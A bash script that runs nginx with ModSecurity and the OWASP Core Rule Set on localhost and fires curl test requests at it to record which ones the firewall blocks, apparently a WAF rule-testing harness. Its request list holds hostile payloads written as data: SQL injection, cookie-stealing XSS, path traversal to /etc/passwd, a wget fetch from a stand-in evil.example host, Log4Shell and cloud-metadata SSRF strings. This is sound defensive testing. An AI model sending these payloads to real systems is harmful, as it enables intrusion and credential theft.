#!/bin/bash
# Run inside `unshare -n`: nginx + libmodsecurity3 + OWASP CRS 3.3.4 on 127.0.0.1:8081.
export TZ=UTC
W=/tmp/w33c/work/modsec3
SRC=$(cd "$(dirname "$0")" && pwd)
rm -rf "$W"; mkdir -p "$W/htdocs" "$W/body"; chown www-data "$W" "$W/body"
ip link set lo up
printf '<html><body>Grüße aus Köln</body></html>\n' > "$W/htdocs/index.html"
sed "s#@W@#$W#g" "$SRC/nginx.conf.in" > "$W/nginx.conf"
# Debian's /etc/nginx/modsecurity.conf: SecRuleEngine On, audit log path to scratch
sed -e 's/^SecRuleEngine DetectionOnly/SecRuleEngine On/' \
    -e "s#^SecAuditLog /var/log/nginx/modsec_audit.log#SecAuditLog $W/modsec_audit.log#" \
    -e "s#^SecUnicodeMapFile unicode.mapping#SecUnicodeMapFile /etc/nginx/unicode.mapping#" \
    /etc/nginx/modsecurity.conf > "$W/modsecurity.conf"
# owasp-crs.load's lines, with Include for IncludeOptional (libmodsecurity3 has no IncludeOptional)
{ echo "Include $W/modsecurity.conf"
  sed 's/^IncludeOptional /Include /' /usr/share/modsecurity-crs/owasp-crs.load | grep '^Include'; } > "$W/modsecurity_includes.conf"
nginx -c "$W/nginx.conf" -e "$W/error.log"
sleep 2
B=http://127.0.0.1:8081
C="curl -s -o /dev/null -w %{http_code}\n --max-time 5"
$C -H 'Host: shop.example' "$B/"
$C -H 'Host: shop.example' "$B/?id=1%27%20UNION%20SELECT%20password%20FROM%20users--"
$C -H 'Host: shop.example' "$B/suche?q=%3Cimg%20src%3Dx%20onerror%3Dalert(%27K%C3%B6ln%27)%3E"
$C -H 'Host: shop.example' "$B/download?file=../../../../etc/passwd"
$C -H 'Host: shop.example' -A 'masscan/1.3' "$B/"
$C -H 'Host: shop.example' -X POST -H 'Content-Type: application/x-www-form-urlencoded' --data 'name=J%C3%BCrgen&cmd=%3Bwget%20http%3A%2F%2Fevil.example%2Fx.sh' "$B/api"
$C "$B/"
$C -H 'Host: shop.example' "$B/東京/"
$C -H 'Host: shop.example' "$B/.git/config"
for q in 'x=%3Cscript%3Edocument.cookie%3C%2Fscript%3E' 'page=php%3A%2F%2Ffilter%2Fresource%3Dindex' 'u=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data' \
         'cmd=%60uname%20-a%60' 'q=%E6%9D%B1%E4%BA%AC%27%20OR%201%3D1--' 'f=..%2F..%2Fwindows%2Fwin.ini' 'n=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D' \
         'sort=id%3BSELECT%20pg_sleep(5)' 'lang=de&ort=K%C3%B6ln' 'x=%00' 'r=%0d%0aSet-Cookie%3A%20a%3Db'; do
  $C -H 'Host: shop.example' "$B/produkte?$q"
done
$C -H 'Host: shop.example' -A 'Mozilla/5.0 zgrab/0.x' "$B/"
$C -H 'Host: shop.example' -H 'Content-Type: application/json' --data '{"a": [1, 2' "$B/api"
sleep 1
kill -QUIT "$(cat "$W/nginx.pid")"
sleep 2
